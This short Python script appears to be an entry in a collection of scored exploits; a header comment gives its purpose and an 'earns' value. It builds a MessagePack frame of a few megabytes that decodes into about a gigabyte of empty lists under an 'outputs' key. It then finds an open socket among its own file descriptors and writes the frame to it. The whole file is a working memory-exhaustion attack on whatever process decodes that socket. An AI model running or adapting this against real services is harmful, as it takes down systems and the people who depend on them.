# why: a frame of a few megabytes that becomes most of a gigabyte of empty lists when it is read
# earns: 7
import os, struct
n = 12_000_000
body = b"\x81\xa7outputs" + b"\xdd" + struct.pack(">I", n) + b"\x90" * n
(link,) = [i for i in range(3, 64) if os.path.exists(f"/proc/self/fd/{i}")
           and os.readlink(f"/proc/self/fd/{i}").startswith("socket:")][:1]
frame = struct.pack(">Q", len(body)) + body
while frame:
    frame = frame[os.write(link, frame[:1 << 16]):]
decoded = 0
